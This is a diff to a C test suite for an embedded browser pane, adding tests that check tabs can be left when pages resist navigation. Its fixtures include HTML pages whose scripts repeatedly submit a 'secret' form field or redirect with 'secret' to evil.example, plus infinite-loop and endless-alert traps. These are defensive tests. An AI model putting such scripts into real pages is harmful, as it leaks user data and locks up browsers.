@@ -26,6 +26,12 @@ port_cb (guint port, gpointer data)
   return dex_future_new_take_object (connection);
 }
 
+static DexFuture *
+no_port_cb (guint port, gpointer data)
+{
+  return annex_future_new_errorf (G_IO_ERROR, G_IO_ERROR_CONNECTION_REFUSED, "Nobody is there");
+}
+
 static void
 hang_cb (SoupServer *server,
          SoupServerMessage *message,
@@ -194,6 +200,23 @@ test_no_site_reads_the_computer (void)
 
 /* ---------------------------------------------------------------- leaving the computer's page */
 
+static const struct
+{
+  const char *path;
+  const char *page;
+} clinging[] = {
+  { "/browser/hands/leaving-a-page-that-submits",
+    "<title>Mine</title><form action='http://evil.example/x' method=post>"
+    "<input name=a value=secret></form>"
+    "<script>setInterval(() => { document.forms[0].submit() }, 5)</script>" },
+  { "/browser/hands/leaving-a-page-that-leads",
+    "<title>Mine</title><script>"
+    "setInterval(() => { location = 'http://evil.example/x?secret' }, 5)</script>" },
+  { "/browser/hands/leaving-a-page-of-frames",
+    "<title>Mine</title><iframe src='/frame'></iframe><script>"
+    "setInterval(() => { frames[0].location = '/frame?' + Math.random() }, 20)</script>" },
+};
+
 static gboolean
 is_at (AnnexBrowserTab *tab, const char *title)
 {
@@ -253,6 +276,179 @@ test_leaving_a_page_that_clings (gconstpointer page)
   annex_browser_pane_load (self->pane, tab, "http://site.example/moved");
   pane_wait_until (is_at (tab, "There"));
   assert_nothing_left (self);
+}
+
+/* Where the user goes last is where they get, and to stop is to stay. */
+static void
+test_leaving_twice (void)
+{
+  g_autoptr (PaneFixture) self = new_fixture ();
+  AnnexBrowserTab *tab;
+
+  add_moved (self);
+  pane_fixture_page (self, "localhost.computer:8000/", NULL,
+                     "<title>Mine</title><script>setInterval(() => {"
+                     "location = 'http://evil.example/x?secret' }, 5)</script>");
+  tab = annex_browser_pane_open (self->pane, COMPUTER);
+  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Mine"));
+  annex_browser_pane_load (self->pane, tab, "http://site.example/");
+  annex_browser_tab_stop (tab);
+  pane_wait_ms (2500);
+  g_assert_false (pane_fixture_was_asked (self, "GET site.example/"));
+  annex_browser_pane_load (self->pane, tab, COMPUTER);
+  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Mine"));
+  annex_browser_pane_load (self->pane, tab, "http://site.example/");
+  pane_wait_ms (100);
+  annex_browser_pane_load (self->pane, tab, "http://bank.example/there");
+  pane_wait_until (is_at (tab, "There"));
+  pane_wait_ms (2000);
+  g_assert_true (is_at (tab, "There"));
+  assert_nothing_left (self);
+}
+
+/* A page that never came has no say in where others lead. */
+static void
+test_redirect_after_one_that_never_came (void)
+{
+  g_autoptr (PaneFixture) self = new_fixture ();
+  AnnexBrowserTab *tab;
+
+  add_moved (self);
+  pane_fixture_page (self, "site.example/", NULL,
+                     "<title>Site</title><a id=go href='/moved'>x</a>"
+                     "<iframe src='http://localhost.computer:9/never'></iframe>");
+  tab = annex_browser_pane_open (self->pane, "http://site.example/");
+  assert_gets_to (tab, "Site");
+  /* A frame's. */
+  g_free (pane_fixture_script (self, "go.click()"));
+  assert_gets_to (tab, "There");
+  annex_browser_tab_go_back (tab);
+  assert_gets_to (tab, "Site");
+  /* The user's own. */
+  annex_browser_pane_set_computer_ports (self->pane, no_port_cb, self, NULL);
+  annex_browser_pane_load (self->pane, tab, "http://localhost.computer:9/never");
+  pane_wait_until (annex_browser_tab_get_failure (tab) != NULL ||
+                   g_str_has_suffix (annex_browser_tab_get_page_uri (tab), "/never"));
+  annex_browser_tab_go_back (tab);
+  assert_gets_to (tab, "Site");
+  g_free (pane_fixture_script (self, "go.click()"));
+  assert_gets_to (tab, "There");
+  /* One that hangs, and is given up. */
+  annex_browser_pane_set_computer_ports (self->pane, port_cb, self, NULL);
+  annex_browser_tab_go_back (tab);
+  assert_gets_to (tab, "Site");
+  annex_browser_pane_load (self->pane, tab, COMPUTER "hang");
+  pane_wait_until (annex_browser_tab_is_loading (tab));
+  pane_wait_ms (300);
+  annex_browser_tab_stop (tab);
+  pane_wait_until (!annex_browser_tab_is_loading (tab));
+  g_free (pane_fixture_script (self, "go.click()"));
+  assert_gets_to (tab, "There");
+}
+
+/* ---------------------------------------------------------------- a page that never answers */
+
+static void
+add_busy (PaneFixture *self, const char *place)
+{
+  pane_fixture_page (self, place, NULL,
+                     "<title>Busy</title><script>setTimeout(() => { for (;;); }, 100)</script>");
+}
+
+static AnnexBrowserTab *
+open_busy (PaneFixture *self, const char *uri)
+{
+  AnnexBrowserTab *tab = annex_browser_pane_open (self->pane, uri);
+
+  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Busy"));
+  pane_wait_ms (500);
+  return tab;
+}
+
+static void
+test_leaving_a_busy_page (void)
+{
+  g_autoptr (PaneFixture) self = new_fixture ();
+  AnnexBrowserTab *tab;
+  AnnexBrowserTab *other;
+  gint64 start_us;
+
+  add_moved (self);
+  add_busy (self, "site.example/busy");
+  add_busy (self, "localhost.computer:8000/");
+  other = annex_browser_pane_open (self->pane, "http://site.example/");
+  assert_gets_to (other, "Site");
+  tab = open_busy (self, "http://site.example/busy");
+  start_us = g_get_monotonic_time ();
+  annex_browser_pane_load (self->pane, tab, "http://site.example/moved");
+  assert_gets_to (tab, "There");
+  g_test_message ("left after %d ms", (int) ((g_get_monotonic_time () - start_us) / 1000));
+  g_assert_true (annex_browser_tab_take_ended (tab));
+  g_assert_false (annex_browser_tab_take_ended (tab));
+  g_assert_null (annex_browser_tab_get_failure (other));
+  /* Back from it, and anew. */
+  annex_browser_pane_load (self->pane, tab, "http://site.example/busy");
+  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Busy"));
+  pane_wait_ms (500);
+  annex_browser_tab_go_back (tab);
+  assert_gets_to (tab, "There");
+  pane_fixture_page (self, "site.example/busy", NULL, "<title>Mended</title>");
+  annex_browser_tab_go_forward (tab);
+  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Busy") ||
+                   g_str_equal (annex_browser_tab_get_title (tab), "Mended"));
+  pane_wait_ms (500);
+  annex_browser_tab_reload (tab);
+  assert_gets_to (tab, "Mended");
+  annex_browser_pane_close_tab (self->pane, tab);
+  /* The computer's own, from where a redirect leads too. */
+  tab = open_busy (self, COMPUTER);
+  annex_browser_pane_load (self->pane, tab, "http://site.example/moved");
+  assert_gets_to (tab, "There");
+}
+
+/* Dialogs without end keep the user no more than the agent. */
+static void
+test_leaving_dialogs (void)
+{
+  g_autoptr (PaneFixture) self = new_fixture ();
+  AnnexBrowserTab *tab;
+
+  pane_fixture_page (self, "bank.example/trap", NULL,
+                     "<title>Trap</title><script>setTimeout(() => { for (;;) alert('again') }, 50)"
+                     "</script>");
+  tab = annex_browser_pane_open (self->pane, "http://bank.example/trap");
+  pane_wait_until (annex_browser_tab_get_dialog (tab) != NULL);
+  annex_browser_pane_load (self->pane, tab, "http://site.example/");
+  assert_gets_to (tab, "Site");
+  g_assert_null (annex_browser_tab_get_dialog (tab));
+}
+
+/* What one page is denied, those in other tabs keep. */
+static void
+test_leaving_beside_others (void)
+{
+  g_autoptr (PaneFixture) self = new_fixture ();
+  AnnexBrowserTab *tab;
+  AnnexBrowserTab *other;
+
+  add_moved (self);
+  pane_fixture_page (self, "bank.example/counts", NULL,
+                     "<title>0</title><script>let n = 0; setInterval(() => {"
+                     "document.title = ++n }, 50); if (location.search) document.title = 'new'"
+                     "</script>");
+  pane_fixture_page (self, "localhost.computer:8000/", NULL, clinging[0].page);
+  other = annex_browser_pane_open (self->pane, "http://bank.example/counts");
+  tab = annex_browser_pane_open (self->pane, COMPUTER);
+  pane_wait_until (g_str_equal (annex_browser_tab_get_title (tab), "Mine"));
+  pane_wait_ms (300);
+  annex_browser_pane_load (self->pane, tab, "http://site.example/moved");
+  while (!is_at (tab, "There"))
+    {
+      g_assert_true (webkit_settings_get_enable_javascript (
+          webkit_web_view_get_settings (annex_browser_tab_get_view (other))));
+      pane_wait_ms (20);
+    }
+  pane_wait_until (g_ascii_strtoull (annex_browser_tab_get_title (other), NULL, 10) > 20);
 }
 
 /* ---------------------------------------------------------------- a page that was left in front */
@@ -456,23 +652,6 @@ test_handing_back_on_the_way (void)
   g_assert_cmpuint (self->asked->len, ==, 1);
 }
 
-static const struct
-{
-  const char *path;
-  const char *page;
-} clinging[] = {
-  { "/browser/hands/leaving-a-page-that-submits",
-    "<title>Mine</title><form action='http://evil.example/x' method=post>"
-    "<input name=a value=secret></form>"
-    "<script>setInterval(() => { document.forms[0].submit() }, 5)</script>" },
-  { "/browser/hands/leaving-a-page-that-leads",
-    "<title>Mine</title><script>"
-    "setInterval(() => { location = 'http://evil.example/x?secret' }, 5)</script>" },
-  { "/browser/hands/leaving-a-page-of-frames",
-    "<title>Mine</title><iframe src='/frame'></iframe><script>"
-    "setInterval(() => { frames[0].location = '/frame?' + Math.random() }, 20)</script>" },
-};
-
 int
 main (int argc, char **argv)
 {
@@ -486,6 +665,12 @@ main (int argc, char **argv)
   g_test_add_func ("/browser/hands/leaving-for-a-redirect", test_leaving_for_a_redirect);
   for (guint i = 0; i < G_N_ELEMENTS (clinging); i++)
     g_test_add_data_func (clinging[i].path, clinging[i].page, test_leaving_a_page_that_clings);
+  g_test_add_func ("/browser/hands/leaving-twice", test_leaving_twice);
+  g_test_add_func ("/browser/hands/redirect-after-one-that-never-came",
+                   test_redirect_after_one_that_never_came);
+  g_test_add_func ("/browser/hands/leaving-a-busy-page", test_leaving_a_busy_page);
+  g_test_add_func ("/browser/hands/leaving-dialogs", test_leaving_dialogs);
+  g_test_add_func ("/browser/hands/leaving-beside-others", test_leaving_beside_others);
   g_test_add_func ("/browser/hands/untouched-page", test_untouched_page);
   g_test_add_func ("/browser/hands/name-of-the-page", test_name_of_the_page);
   g_test_add_func ("/browser/hands/handing-back-on-the-way", test_handing_back_on_the_way);
